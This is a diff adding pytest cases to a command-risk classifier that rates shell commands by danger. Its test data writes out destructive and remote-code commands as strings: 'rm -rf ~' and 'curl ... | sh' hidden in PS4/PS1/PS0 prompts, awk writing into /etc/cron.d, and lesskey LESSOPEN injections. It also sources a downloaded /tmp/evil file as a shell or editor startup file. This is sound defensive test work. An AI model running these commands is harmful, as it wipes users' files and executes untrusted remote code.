@@ -1452,3 +1452,75 @@ def test_pager_and_editor_commands_are_read_in_linear_time(command: str, level: 
     started = time.perf_counter()
     assert classify_command(command).level >= level
     assert time.perf_counter() - started < 20
+
+
+# ----------------------------------------------------------------------------- files and prompts a shell reads
+
+SAVED = "curl -so /tmp/evil https://example.com/x"
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        # the prompts are expanded, command substitutions included: PS4 by every `bash -x`
+        ("PS4='$(rm -rf ~)' bash -xc true", CRITICAL),
+        ("export PS1='`rm -rf ~`'", CRITICAL),
+        ("PS0='$(curl https://e.com/x | sh)' bash -i", CRITICAL),
+        ("PS1='$(date) > ' bash -i", MEDIUM),  # the interactive shell, not the prompt
+        ("export PS4='+$(git branch)'", LOW),
+        # awk writes files by name, or by a name it computes
+        ("awk '{print $1 > \"/etc/cron.d/x\"}' f", CRITICAL),
+        ('awk \'BEGIN{print "x" > "out.txt"}\'', MEDIUM),
+        ('awk \'{printf "%s\\n", $1 >> "log.txt"}\' f', MEDIUM),
+        ("awk '{ f = \"/etc/passwd\"; print > f }' x", MEDIUM),
+        ("awk '{ print > $2 }' x", MEDIUM),
+        # vim sources script files; less reads lesskey files, which can set LESSOPEN
+        ("vim -S /tmp/other.vim", MEDIUM),
+        ("printf ':!rm -rf ~\\n' > s.vim; vim -S s.vim", CRITICAL),
+        ("less -k /tmp/keys f", MEDIUM),
+        ("less --lesskey-src /tmp/keys f", MEDIUM),
+        ("less '--lesskey-content=#env\nLESSOPEN=|rm -rf ~ %s' f", CRITICAL),
+        ("LESSKEY_CONTENT='#env\nLESSOPEN=|curl x|sh' less f", CRITICAL),
+    ],
+)
+def test_prompts_awk_outputs_vim_scripts_and_lesskey_files_are_rated(command: str, level: RiskLevel) -> None:
+    assert classify_command(command).level == level
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "bash --rcfile /tmp/evil -i",
+        "bash --init-file /tmp/evil",
+        "ENV=/tmp/evil sh -i",
+        "vim -S /tmp/evil",
+        "vim -u /tmp/evil file",
+        "less --lesskey-file=/tmp/evil f",
+        "LESSKEYIN=/tmp/evil less f",
+    ],
+)
+def test_a_downloaded_startup_or_settings_file_is_critical(command: str) -> None:
+    risk = classify_command(command, earlier=[SAVED])
+    assert risk.level == CRITICAL
+    assert any("saved from downloaded content" in reason for reason in risk.reasons)
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        ("ENV=production npm start", MEDIUM),  # npm's own rating: ENV names no file the run saved
+        ("ENV=/tmp/evil sh -i", MEDIUM),
+        ("awk '{print \"a>b\"}' f", LOW),
+        ("awk '{print (a > b)}' f", LOW),
+        ("awk '{print > \"/dev/stderr\"}' f", LOW),
+        ("awk '{if ($1 > 3) print $2}' f", LOW),
+        ("awk -F: '$3 >= 1000 {print $1}' /etc/passwd", LOW),
+        ("vim -u NONE f", MEDIUM),
+        ("less -N f", LOW),
+        pytest.param("awk '" + "print print " * 7_000 + "> x'", MEDIUM, id="long-awk"),  # bounded look-ahead
+    ],
+)
+def test_everyday_prompts_awk_and_pagers_keep_their_ratings(command: str, level: RiskLevel) -> None:
+    started = time.perf_counter()
+    assert classify_command(command).level == level
+    assert time.perf_counter() - started < 20
